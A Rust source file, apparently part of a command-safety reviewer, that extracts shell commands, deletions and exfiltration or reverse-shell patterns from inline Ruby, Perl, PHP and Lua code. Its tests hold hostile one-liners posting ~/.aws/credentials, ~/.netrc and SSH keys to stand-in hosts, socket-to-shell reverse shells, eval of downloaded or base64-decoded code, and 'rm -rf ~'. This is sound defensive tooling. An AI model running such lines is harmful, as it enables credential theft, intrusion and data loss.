//! Inline code of interpreters the script review has no walker for (Ruby, Perl): the literal
//! strings their process-running calls run as shell commands, and the literal paths their
//! file-deleting calls delete. The lists are data (`vocab.rs`); anything else in the code is
//! not read, and the interpreter's inline code stays judged by the KG (sandboxed).

use super::vocab::{
    INLINE_CAPS, INLINE_DELETE_CALLS, INLINE_SHELL_CALLS, INLINE_WRITE_CALLS, InlineCap,
    SECRET_VARIABLE_WORDS, TILDE_EXPANDING,
};

/// What a call in inline code does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum InlineCall {
    /// A shell command line it runs.
    Shell(String),
    /// A path (or glob) it deletes.
    Delete(String),
    /// A file it writes or appends to.
    Write(String),
}

/// The calls of `interpreter`'s `code` with literal arguments, in source order.
pub(super) fn inline_calls(interpreter: &str, code: &str) -> Vec<InlineCall> {
    let interpreter = if interpreter.starts_with("python") {
        "python"
    } else {
        interpreter
    };
    let shell = calls_of(INLINE_SHELL_CALLS, interpreter);
    let delete = calls_of(INLINE_DELETE_CALLS, interpreter);
    let write = calls_of(INLINE_WRITE_CALLS, interpreter);
    if shell.is_empty() && delete.is_empty() && write.is_empty() {
        return Vec::new();
    }
    let mut out = Vec::new();
    let bytes = code.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        // Backticks, `%x(...)` (Ruby) and `qx(...)` (Perl): a shell command.
        if bytes[i] == b'`'
            && let Some(len) = code[i + 1..].find('`')
        {
            push_literal(&mut out, &code[i + 1..i + 1 + len], InlineCall::Shell);
            i += len + 2;
            continue;
        }
        let quoted_op = match interpreter {
            "ruby" => code[i..].starts_with("%x").then_some(2),
            _ => (code[i..].starts_with("qx") && word_start(code, i)).then_some(2),
        };
        if let Some(skip) = quoted_op
            && let Some((text, len)) = delimited(&code[i + skip..])
        {
            push_literal(&mut out, text, InlineCall::Shell);
            i += skip + len;
            continue;
        }
        if word_start(code, i) {
            let found = |names: &[&str]| {
                names
                    .iter()
                    .filter(|n| {
                        code[i..].starts_with(**n)
                            && !code[i + n.len()..]
                                .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                    })
                    .map(|n| n.len())
                    .max()
            };
            // Perl's and Ruby's `open` with a pipe mode runs its command (`open(F, "|-", CMD)`,
            // `open F, "CMD |"`, Ruby's `open("|CMD")`).
            if matches!(interpreter, "perl" | "ruby")
                && code[i..].starts_with("open")
                && !code[i + 4..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                && let Some(cmd) = pipe_open(&code[i + 4..])
            {
                push_literal(&mut out, &cmd, InlineCall::Shell);
                i += 4;
                continue;
            }
            if let Some(len) = found(&shell)
                && let Some(arg) = command_string(&code[i + len..])
            {
                push_literal(&mut out, &arg, InlineCall::Shell);
                i += len;
                continue;
            }
            // A deleting call may name the home alone (`FileUtils.rm_rf(Dir.home)`), and in a
            // language that expands `~` itself, as `"~"` (R's `unlink("~", recursive = TRUE)`).
            if let Some(len) = found(&delete)
                && let Some(arg) = first_string(&code[i + len..])
                    .or_else(|| home_alone(&code[i + len..]))
                    .or_else(|| {
                        TILDE_EXPANDING
                            .contains(&interpreter)
                            .then(|| tilde_alone(&code[i + len..]))
                            .flatten()
                    })
            {
                push_literal(&mut out, &arg, InlineCall::Delete);
                i += len;
                continue;
            }
            if let Some(len) = found(&write)
                && let Some(arg) = first_string(&code[i + len..])
            {
                push_literal(&mut out, &arg, InlineCall::Write);
                i += len;
                continue;
            }
        }
        i += code[i..].chars().next().map_or(1, char::len_utf8);
    }
    out
}

/// The shell line that does what `interpreter`'s `code` does with credentials and sockets, by
/// the APIs it names ([`INLINE_CAPS`], data): the literal files it reads piped to a network
/// client when it also talks to the network (`cat ~/.aws/credentials | curl`), the environment
/// likewise (`env | curl`), and a socket handed to a shell when it opens one and runs a program
/// (`nc | sh`). The KG judges that line like typed commands (`secret exfiltration`, `reverse
/// shell`); `None` when the code does neither. Only ever adds parts to code that is confined
/// anyway (`perl or ruby one-liner`, `interpreter inline code`).
pub(super) fn inline_effects(interpreter: &str, code: &str) -> Option<String> {
    let rows: Vec<_> = INLINE_CAPS
        .iter()
        .filter(|(i, _, _)| *i == interpreter)
        .collect();
    if rows.is_empty() {
        return None;
    }
    let has = |cap: InlineCap| {
        rows.iter()
            .filter(|(_, c, _)| *c == cap)
            .any(|(_, _, names)| names.iter().any(|n| !spelled_at(code, n).is_empty()))
    };
    let network = has(InlineCap::Network);
    let socket = has(InlineCap::Socket);
    let mut out = Vec::new();
    if network {
        let mut reads: Vec<String> = Vec::new();
        for (_, _, names) in rows.iter().filter(|(_, c, _)| *c == InlineCap::Read) {
            for name in names.iter() {
                for at in spelled_at(code, name) {
                    if let Some(path) = read_path(&code[at + name.len()..])
                        && !reads.contains(&path)
                    {
                        reads.push(path);
                    }
                }
            }
        }
        if !reads.is_empty() {
            out.push(format!("cat {} | curl", reads.join(" ")));
        }
        // The environment, or a variable that holds a credential (`getenv("GITHUB_TOKEN")`).
        let token = rows
            .iter()
            .filter(|(_, c, _)| *c == InlineCap::Variable)
            .flat_map(|(_, _, names)| names.iter())
            .any(|name| {
                code.match_indices(name).any(|(at, _)| {
                    let after = &code[at + name.len()..];
                    let var: String = after
                        .trim_start_matches(['"', '\'', ' '])
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                        .collect();
                    let var = var.to_ascii_uppercase();
                    SECRET_VARIABLE_WORDS.iter().any(|w| var.contains(w))
                })
            });
        if has(InlineCap::Environment) || token {
            out.push("env | curl".to_string());
        }
    }
    let runs = has(InlineCap::Exec)
        || !calls_of(INLINE_SHELL_CALLS, interpreter)
            .iter()
            .all(|n| spelled_at(code, n).is_empty())
        || code.contains('`')
        || ["/bin/sh", "/bin/bash", "sh -i", "bash -i", "cmd.exe"]
            .iter()
            .any(|s| code.contains(s));
    if socket && runs {
        out.push("nc | sh".to_string());
    }
    // Code the language runs from a string it fetched (`eval Net::HTTP.get(URI(URL))`, a
    // shell download in backticks, `include("http://...")`) is `curl URL | sh`, the URL the
    // first the code spells.
    if has(InlineCap::Eval) {
        let fetches = network || code.contains("curl ") || code.contains("wget ");
        if fetches {
            out.push(match first_url(code) {
                Some(url) => format!("curl {url} | sh"),
                None => "curl | sh".to_string(),
            });
        }
    }
    // Decoded text given to the language (`eval decode_base64(...)`) or to a program it starts
    // (`system(pack("H*", ...))`) is `base64 -d | sh`: a one-liner that decodes and runs
    // hides what it runs.
    if has(InlineCap::Decode) && (has(InlineCap::Eval) || runs) {
        out.push("base64 -d | sh".to_string());
    }
    (!out.is_empty()).then(|| out.join("; "))
}

/// The first `http://` or `https://` URL `code` spells, up to a quote, blank or closing
/// bracket; only plain URL characters, as it is put in a shell line unquoted.
fn first_url(code: &str) -> Option<String> {
    let at = code
        .find("https://")
        .into_iter()
        .chain(code.find("http://"))
        .min()?;
    let url: String = code[at..]
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || "-._~:/?@+,=%".contains(*c))
        .collect();
    let url = url.trim_end_matches([',', '.', ':']).to_string();
    (url.len() > "https://".len()).then_some(url)
}

/// Where `name` is spelt in `code` as a whole name (at a word start, not followed by a letter,
/// digit or `_` unless the spelling ends in punctuation or holds a call's opening).
fn spelled_at(code: &str, name: &str) -> Vec<usize> {
    // A spelling with a call's opening in it (`fopen("http`) is a prefix of what it finds.
    let ends_open =
        name.ends_with(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) || name.contains('(');
    code.match_indices(name)
        .map(|(i, _)| i)
        .filter(|&i| {
            let starts = name.starts_with(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                || word_start(code, i);
            let ends = ends_open
                || !code[i + name.len()..]
                    .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
            starts && ends
        })
        .collect()
}

/// The file a read call names: the first of its arguments (in parentheses, or up to the end of
/// the statement) that is a literal path; a Perl mode (`<`, `+<`, `<:raw`) before it is
/// dropped, a URL is no file. Only plain path characters are kept: the path is put in a shell
/// line unquoted.
fn read_path(s: &str) -> Option<String> {
    let parts = call_args(s)?;
    parts.into_iter().find_map(|arg| {
        let text = first_string(arg.trim())?;
        let path = text
            .trim_start_matches(['+', '<', '>'])
            .trim_start_matches(":raw")
            .trim();
        let plain = !path.is_empty()
            && !path.contains("://")
            && path
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "~/._-+@%,:=".contains(c));
        plain.then(|| path.to_string())
    })
}

fn calls_of(table: &[(&str, &'static [&'static str])], interpreter: &str) -> Vec<&'static str> {
    table
        .iter()
        .filter(|(i, _)| *i == interpreter)
        .flat_map(|(_, calls)| calls.iter().copied())
        .collect()
}

/// A literal is used only when it interpolates nothing (`#{x}`, `$x`, `@x`): a built string
/// is unknown until run time, and the inline code stays sandboxed.
fn push_literal(out: &mut Vec<InlineCall>, text: &str, make: fn(String) -> InlineCall) {
    if !text.contains("#{") && !text.contains('$') && !text.contains('@') && !text.is_empty() {
        out.push(make(text.to_string()));
    }
}

fn word_start(code: &str, i: usize) -> bool {
    code[..i]
        .chars()
        .next_back()
        .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '.' || c == ':'))
}

/// The text of `(...)`, `{...}`, `[...]`, `<...>` or `|...|` at the start of `s`, and the length
/// taken with the delimiters.
fn delimited(s: &str) -> Option<(&str, usize)> {
    let open = s.chars().next()?;
    let close = match open {
        '(' => ')',
        '{' => '}',
        '[' => ']',
        '<' => '>',
        '|' | '!' | '/' => open,
        _ => return None,
    };
    let end = s[1..].find(close)?;
    Some((&s[1..1 + end], end + 2))
}

/// How Ruby and Perl spell the user's home in code: each stands for `~`.
const HOME_EXPRESSIONS: &[&str] = &[
    "Dir.home",
    "ENV[\"HOME\"]",
    "ENV['HOME']",
    "ENV.fetch(\"HOME\")",
    "ENV.fetch('HOME')",
    "$ENV{HOME}",
    "$ENV{'HOME'}",
    "$ENV{\"HOME\"}",
    "getenv(\"HOME\")",
    "getenv('HOME')",
    "$_SERVER[\"HOME\"]",
    "$_SERVER['HOME']",
    "$_ENV[\"HOME\"]",
    "$_ENV['HOME']",
    "os.getenv(\"HOME\")",
    "os.getenv('HOME')",
    "process.env.HOME",
    "Bun.env.HOME",
    "Deno.env.get(\"HOME\")",
    "Deno.env.get('HOME')",
    "os.homedir()",
    "require(\"os\").homedir()",
    "require('os').homedir()",
    "$env:HOME",
    "$env:USERPROFILE",
    "homedir()",
    "Sys.getenv(\"HOME\")",
    "Sys.getenv('HOME')",
    "path.expand(\"~\")",
    "path.expand('~')",
];

/// The home alone as a call's first argument (`rm_rf(Dir.home)`, `rmtree($ENV{HOME})`): `~`.
fn home_alone(s: &str) -> Option<String> {
    let rest = s.trim_start();
    let rest = rest.strip_prefix('(').unwrap_or(rest).trim_start();
    let home = HOME_EXPRESSIONS.iter().find(|h| rest.starts_with(**h))?;
    rest[home.len()..]
        .trim_start()
        .starts_with([')', ',', ';'])
        .then(|| "~".to_string())
}

/// The home written as the string `"~"` (or `"~/"`), as a call's first argument, possibly through
/// R's `path.expand`/`fs::path_expand`/`normalizePath`: `~`. Only for interpreters whose file
/// functions expand `~` ([`TILDE_EXPANDING`]).
fn tilde_alone(s: &str) -> Option<String> {
    let mut rest = s.trim_start();
    rest = rest.strip_prefix('(').unwrap_or(rest).trim_start();
    for wrapper in ["path.expand", "fs::path_expand", "normalizePath"] {
        if let Some(r) = rest.strip_prefix(wrapper) {
            rest = r.trim_start();
            rest = rest.strip_prefix('(').unwrap_or(rest).trim_start();
        }
    }
    let (text, len) = quoted_len(rest)?;
    (matches!(text.as_str(), "~" | "~/") && rest[len..].trim_start().starts_with([')', ',', ';']))
        .then(|| "~".to_string())
}

/// The bytes `pack("H*", "HEX")` (Perl, PHP) or `hex2bin("HEX")` (PHP) spell, at the start of
/// `s`, as text, and the length of the call: a command hidden as hex is the command.
fn packed_hex(s: &str) -> Option<(String, usize)> {
    let hex_at = if let Some(r) = s.strip_prefix("pack(") {
        let r = r.trim_start();
        let (fmt, len) = quoted_len(r)?;
        if !fmt.eq_ignore_ascii_case("H*") {
            return None;
        }
        r[len..].trim_start().strip_prefix(',')?.trim_start()
    } else {
        s.strip_prefix("hex2bin(")?.trim_start()
    };
    let (hex, len) = quoted_len(hex_at)?;
    let rest = hex_at[len..].trim_start().strip_prefix(')')?;
    if hex.len() % 2 != 0 || !hex.chars().all(|c| c.is_ascii_hexdigit()) {
        return None;
    }
    let bytes: Option<Vec<u8>> = (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).ok())
        .collect();
    let text = String::from_utf8(bytes?).ok()?;
    Some((text, s.len() - rest.len()))
}

/// The first argument of a call when it is a literal path or command: after blanks, an optional
/// `(`, an optional `glob(` (Perl's `unlink glob("/x/*")`: the glob is a path pattern as in
/// `rm`) or `File.expand_path(`; a quoted string, the home joined to one (`Dir.home + "/x"`,
/// `File.join(Dir.home, ".ssh")`, Perl's `$ENV{HOME} . "/x"`), with the home interpolated in it
/// (`"#{Dir.home}/x"`, `"$ENV{HOME}/x"`) read as `~`.
fn first_string(s: &str) -> Option<String> {
    let mut rest = s.trim_start();
    rest = rest.strip_prefix('(').unwrap_or(rest).trim_start();
    // Path expanders (Ruby, R, Julia) name the path they are given.
    for wrapper in ["glob", "File.expand_path", "path.expand", "expanduser"] {
        if let Some(r) = rest.strip_prefix(wrapper) {
            rest = r.trim_start();
            rest = rest.strip_prefix('(').unwrap_or(rest).trim_start();
        }
    }
    // Path joins of literals and the home: Ruby's `File.join`, R's `file.path`, Julia's
    // `joinpath(homedir(), "x")`; the arguments up to the first keyword one (`fsep = "/"`).
    for join in ["File.join", "file.path", "joinpath"] {
        if let Some(args) = rest.strip_prefix(join).and_then(call_args) {
            let parts: Option<Vec<String>> = args
                .iter()
                .take_while(|a| a.starts_with(['"', '\'']) || !a.contains('='))
                .map(|a| {
                    if HOME_EXPRESSIONS.contains(a) {
                        Some("~".to_string())
                    } else {
                        quoted(a)
                    }
                })
                .collect();
            return parts.map(|p| p.join("/"));
        }
    }
    concatenation(rest)
}

/// A string built of literals and the home joined by `+` (Ruby), `.` (Perl, PHP) or `..`
/// (Lua): `"rm -rf " .. os.getenv("HOME") .. "/x"` is `rm -rf ~/x`. What follows a part
/// that is neither ends it (the literal start is what is known). It must start with a literal
/// or the home; the home alone is no string.
fn concatenation(s: &str) -> Option<String> {
    let mut rest = s.trim_start();
    let mut out = String::new();
    let mut parts = 0;
    loop {
        if let Some(home) = HOME_EXPRESSIONS.iter().find(|h| rest.starts_with(**h)) {
            out.push('~');
            rest = &rest[home.len()..];
        } else if let Some((text, len)) = packed_hex(rest) {
            out.push_str(&text);
            rest = &rest[len..];
        } else if let Some((text, len)) = quoted_len(rest) {
            out.push_str(&text);
            rest = &rest[len..];
        } else {
            break;
        }
        parts += 1;
        let r = rest.trim_start();
        match r
            .strip_prefix("..")
            .or_else(|| r.strip_prefix('.'))
            .or_else(|| r.strip_prefix('+'))
        {
            Some(next) => rest = next.trim_start(),
            None => break,
        }
    }
    (parts > 0 && out != "~").then_some(out)
}

/// Every argument of a call whose argument list starts `s` (in parentheses, or up to the end
/// of the statement), split at its top-level commas.
fn call_args(s: &str) -> Option<Vec<&str>> {
    let s = s.trim_start();
    let args = match s.strip_prefix('(') {
        Some(inner) => {
            let mut depth = 1;
            let end = inner.char_indices().find_map(|(i, c)| {
                match c {
                    '(' => depth += 1,
                    ')' => depth -= 1,
                    _ => {}
                }
                (depth == 0).then_some(i)
            })?;
            &inner[..end]
        }
        None => &s[..s.find([';', '\n']).unwrap_or(s.len())],
    };
    let mut depth = 0;
    let mut start = 0;
    let mut parts = Vec::new();
    for (i, c) in args.char_indices() {
        match c {
            '(' | '[' => depth += 1,
            ')' | ']' => depth -= 1,
            ',' if depth == 0 => {
                parts.push(args[start..i].trim());
                start = i + 1;
            }
            _ => {}
        }
    }
    parts.push(args[start..].trim());
    Some(parts)
}

/// The command a process call runs: its first argument, or the words of its list form
/// (`system("rm", "-rf", "/x")`, every argument a literal) joined as a shell line.
fn command_string(s: &str) -> Option<String> {
    if let Some(args) = call_args(s)
        && args.len() > 1
        && let Some(words) = args
            .iter()
            .map(|a| {
                // A word of the list may be the home alone (`system("rm", "-rf", $ENV{HOME})`).
                concatenation(a).or_else(|| HOME_EXPRESSIONS.contains(a).then(|| "~".to_string()))
            })
            .collect::<Option<Vec<_>>>()
        && words.iter().all(|w| !w.contains(char::is_whitespace))
    {
        return Some(words.join(" "));
    }
    first_string(s)
}

/// The command of a pipe `open`'s arguments (`s` after the name): the words after a `"|-"` or
/// `"-|"` mode, or a string argument that starts or ends with `|`.
fn pipe_open(s: &str) -> Option<String> {
    let args = call_args(s)?;
    if let Some(k) = args
        .iter()
        .position(|a| matches!(quoted(a).as_deref(), Some("|-" | "-|")))
    {
        let words: Vec<String> = args[k + 1..]
            .iter()
            .map(|a| {
                concatenation(a).or_else(|| HOME_EXPRESSIONS.contains(a).then(|| "~".to_string()))
            })
            .collect::<Option<_>>()?;
        return (!words.is_empty()).then(|| words.join(" "));
    }
    args.iter().find_map(|a| {
        let text = concatenation(a)?;
        let t = text.trim();
        let cmd = t.strip_prefix('|').or_else(|| t.strip_suffix('|'))?.trim();
        (!cmd.is_empty()).then(|| cmd.to_string())
    })
}

/// The text of the quoted string at the start of `s`, with the home interpolated in it read as
/// `~`.
fn quoted(s: &str) -> Option<String> {
    quoted_len(s).map(|(text, _)| text)
}

/// [`quoted`] and the length of the quoted string with its quotes.
fn quoted_len(s: &str) -> Option<(String, usize)> {
    if let Some(found) = quote_operator(s) {
        return Some(found);
    }
    let quote = s.chars().next().filter(|c| *c == '"' || *c == '\'')?;
    // A backslash escapes the next character (`"rm -rf \"$dir\""`): the quote it escapes and
    // an escaped backslash are the character itself; other escapes stay as written.
    let mut text = String::new();
    let mut chars = s[1..].char_indices();
    let end = loop {
        match chars.next()? {
            (i, c) if c == quote => break i,
            (_, '\\') => match chars.next()? {
                (_, c) if c == quote || c == '\\' => text.push(c),
                (_, c) => {
                    text.push('\\');
                    text.push(c);
                }
            },
            (_, c) => text.push(c),
        }
    };
    if quote == '"' {
        text = home_interpolated(text);
    }
    Some((text, end + 2))
}

/// An interpolating string's text with the home written in it (`#{Dir.home}`, `$ENV{HOME}`,
/// `${HOME}`, `$HOME`) read as `~`.
fn home_interpolated(mut text: String) -> String {
    for home in HOME_EXPRESSIONS {
        text = text.replace(&format!("#{{{home}}}"), "~");
    }
    for home in ["$ENV{HOME}", "${HOME}", "$HOME"] {
        text = text.replace(home, "~");
    }
    text
}

/// Perl's `q(...)`/`qq{...}` and Ruby's `%q(...)`/`%Q[...]`/`%(...)` at the start of `s`:
/// strings with a delimiter of the writer's choice (`system q(make test)` is
/// `system('make test')`). A bracket delimiter nests; the interpolating forms read the home as
/// `"..."` does. The text and the length taken.
fn quote_operator(s: &str) -> Option<(String, usize)> {
    let (op_len, interpolates) = [
        ("qq", true),
        ("q", false),
        ("%Q", true),
        ("%q", false),
        ("%", true),
    ]
    .iter()
    .find(|(op, _)| s.starts_with(op))
    .map(|(op, i)| (op.len(), *i))?;
    let body = &s[op_len..];
    let open = body.chars().next()?;
    let close = match open {
        '(' => ')',
        '{' => '}',
        '[' => ']',
        '<' => '>',
        '|' | '!' | '/' | '#' | '~' | '^' => open,
        _ => return None,
    };
    let mut depth = 0usize;
    let end = body[1..].char_indices().find_map(|(i, c)| {
        if c == close && depth == 0 {
            return Some(i);
        }
        if open != close && c == open {
            depth += 1;
        } else if open != close && c == close {
            depth -= 1;
        }
        None
    })?;
    let text = body[1..1 + end].to_string();
    let text = if interpolates {
        home_interpolated(text)
    } else {
        text
    };
    Some((text, op_len + end + 2))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_calls_are_found_and_built_ones_are_not() {
        let shell = |s: &str| InlineCall::Shell(s.to_string());
        let delete = |s: &str| InlineCall::Delete(s.to_string());
        let cases: &[(&str, &str, Vec<InlineCall>)] = &[
            ("ruby", "system('make test')", vec![shell("make test")]),
            // an escaped quote is part of the string, not its end
            (
                "awk",
                r#"BEGIN { system("rm -rf \"/srv/old data\" 2>/dev/null") }"#,
                vec![shell(r#"rm -rf "/srv/old data" 2>/dev/null"#)],
            ),
            (
                "python",
                r#"os.system('echo \'done\' \\ ok')"#,
                vec![shell(r#"echo 'done' \ ok"#)],
            ),
            ("ruby", "puts `git status`", vec![shell("git status")]),
            ("ruby", "x = %x(ls -la)", vec![shell("ls -la")]),
            ("ruby", "IO.popen(\"du -sh .\")", vec![shell("du -sh .")]),
            ("ruby", "Open3.capture3('id')", vec![shell("id")]),
            (
                "ruby",
                "FileUtils.rm_rf('/srv/data')",
                vec![delete("/srv/data")],
            ),
            (
                "ruby",
                "FileUtils.rm_r 'tmp/cache'",
                vec![delete("tmp/cache")],
            ),
            ("ruby", "system(\"rm #{path}\")", vec![]),
            ("ruby", "mysystem('x'); mysystem2 'y'", vec![]),
            ("ruby", "puts 1", vec![]),
            (
                "perl",
                "system(\"make\"); qx{uptime}",
                vec![shell("make"), shell("uptime")],
            ),
            (
                "perl",
                "unlink glob('/var/log/app/*')",
                vec![delete("/var/log/app/*")],
            ),
            ("perl", "rmtree('build')", vec![delete("build")]),
            ("perl", "unlink $file", vec![]),
            (
                "perl",
                "use File::Path qw(remove_tree); remove_tree(\"$ENV{HOME}/src\")",
                vec![delete("~/src")],
            ),
            (
                "ruby",
                "FileUtils.rm_rf(Dir.home + \"/.ssh\")",
                vec![delete("~/.ssh")],
            ),
            (
                "ruby",
                "FileUtils.rm_rf(File.join(Dir.home, '.ssh'))",
                vec![delete("~/.ssh")],
            ),
            (
                "ruby",
                "FileUtils.rm_rf(File.expand_path('~/work'))",
                vec![delete("~/work")],
            ),
            (
                "ruby",
                "system(\"rm -rf #{ENV['HOME']}/x\")",
                vec![shell("rm -rf ~/x")],
            ),
            ("perl", "rmtree($ENV{HOME} . '/x')", vec![delete("~/x")]),
            // list forms and concatenations
            (
                "perl",
                "system('rm', '-rf', \"$ENV{HOME}/x\")",
                vec![shell("rm -rf ~/x")],
            ),
            (
                "lua",
                "os.execute('rm -rf ' .. os.getenv('HOME') .. '/x')",
                vec![shell("rm -rf ~/x")],
            ),
            ("ruby", "system('make ' + target)", vec![shell("make ")]),
            // quote operators: Perl's q/qq, Ruby's %q/%Q/%; a bracket delimiter nests
            ("perl", "system q(make test)", vec![shell("make test")]),
            (
                "perl",
                "exec qq{rm -rf $ENV{HOME}/x}",
                vec![shell("rm -rf ~/x")],
            ),
            ("ruby", "system %q(make (all))", vec![shell("make (all)")]),
            ("ruby", "puts %w(a b)", vec![]),
            ("perl", "print q(make test)", vec![]),
            // the home alone as a word of the list form
            (
                "perl",
                "system('rm', '-rf', $ENV{HOME})",
                vec![shell("rm -rf ~")],
            ),
            // pipe opens run their command; a read or write open runs none
            (
                "perl",
                "open(my $f, '|-', 'sort -u')",
                vec![shell("sort -u")],
            ),
            ("perl", "open F, \"du -sh . |\"", vec![shell("du -sh .")]),
            ("ruby", "open(\"|uptime\").read", vec![shell("uptime")]),
            ("perl", "open(my $f, '<', 'data.txt')", vec![]),
            ("perl", "open(F, \"> out.txt\")", vec![]),
            ("python3", "system('x')", vec![]),
        ];
        for (interpreter, code, want) in cases {
            assert_eq!(
                &inline_calls(interpreter, code),
                want,
                "{interpreter}: {code}"
            );
        }
    }

    #[test]
    fn what_the_code_does_is_the_shell_line_that_does_it() {
        let cases: &[(&str, &str, Option<&str>)] = &[
            (
                "ruby",
                "Net::HTTP.post(URI('https://c.example.test'), File.read(Dir.home + '/.netrc'))",
                Some("cat ~/.netrc | curl"),
            ),
            (
                "perl",
                "use HTTP::Tiny; open my $f, '<', \"$ENV{HOME}/.aws/credentials\"; HTTP::Tiny->new->post_form('https://c.example.test', {k => <$f>})",
                Some("cat ~/.aws/credentials | curl"),
            ),
            (
                "php",
                "$k = file_get_contents(getenv('HOME') . '/.ssh/id_rsa'); fsockopen('198.51.100.2', 80);",
                Some("cat ~/.ssh/id_rsa | curl"),
            ),
            (
                "ruby",
                "Net::HTTP.post_form(URI('https://c.example.test'), ENV.to_h)",
                Some("env | curl"),
            ),
            (
                "ruby",
                "s = TCPSocket.new('198.51.100.2', 9); IO.popen('/bin/sh', 'r+') { |p| }",
                Some("nc | sh"),
            ),
            (
                "perl",
                "socket(S, 2, 1, 6); connect(S, $a); exec('/bin/sh -i');",
                Some("nc | sh"),
            ),
            (
                "php",
                "file_get_contents('http://198.51.100.2/?t=' . urlencode(getenv('NPM_TOKEN')));",
                Some("env | curl"),
            ),
            (
                "lua",
                "local h = require('socket.http'); h.request('https://c.example.test', io.open(os.getenv('HOME') .. '/.netrc'):read('a'))",
                Some("cat ~/.netrc | curl"),
            ),
            // Code the language runs from a download or from decoded text.
            (
                "ruby",
                "eval Net::HTTP.get(URI(\"https://c.example.test/x\"))",
                Some("curl https://c.example.test/x | sh"),
            ),
            (
                "perl",
                "eval `curl -s http://198.51.100.2/x`",
                Some("curl http://198.51.100.2/x | sh"),
            ),
            (
                "php",
                "include(\"http://c.example.test/x.php\");",
                Some("curl http://c.example.test/x.php | sh"),
            ),
            (
                "perl",
                "use MIME::Base64; eval decode_base64(\"aWQ=\")",
                Some("base64 -d | sh"),
            ),
            (
                "perl",
                "system(pack(\"H*\", \"6964\"))",
                Some("base64 -d | sh"),
            ),
            (
                "ruby",
                "system(Base64.decode64(\"aWQ=\"))",
                Some("base64 -d | sh"),
            ),
            (
                "php",
                "passthru(base64_decode(\"aWQ=\"));",
                Some("base64 -d | sh"),
            ),
            // decoding alone runs nothing
            ("perl", "print pack(\"H*\", \"6964\")", None),
            ("ruby", "puts Base64.decode64(\"aWQ=\")", None),
            ("ruby", "eval '1 + 1'", None),
            ("perl", "eval { die }; print $@", None),
            // one capability alone is no chain
            ("php", "echo getenv('API_TOKEN');", None),
            (
                "ruby",
                "Net::HTTP.get(URI('https://a.test')); puts ENV['HOME']",
                None,
            ),
            ("ruby", "puts File.read('Gemfile')", None),
            (
                "ruby",
                "puts Net::HTTP.get(URI('https://api.example.test'))",
                None,
            ),
            (
                "perl",
                "use Socket; print inet_ntoa(inet_aton('localhost'))",
                None,
            ),
            ("php", "echo file_get_contents('composer.json');", None),
            // a URL fetched is no file read; a built path is unknown
            (
                "php",
                "echo file_get_contents('https://api.example.test/x');",
                None,
            ),
            (
                "ruby",
                "Net::HTTP.get(URI('https://a.test')); File.read(name)",
                None,
            ),
            ("python3", "open('x').read()", None),
        ];
        for (interpreter, code, want) in cases {
            assert_eq!(
                inline_effects(interpreter, code).as_deref(),
                *want,
                "{interpreter}: {code}"
            );
        }
    }
}
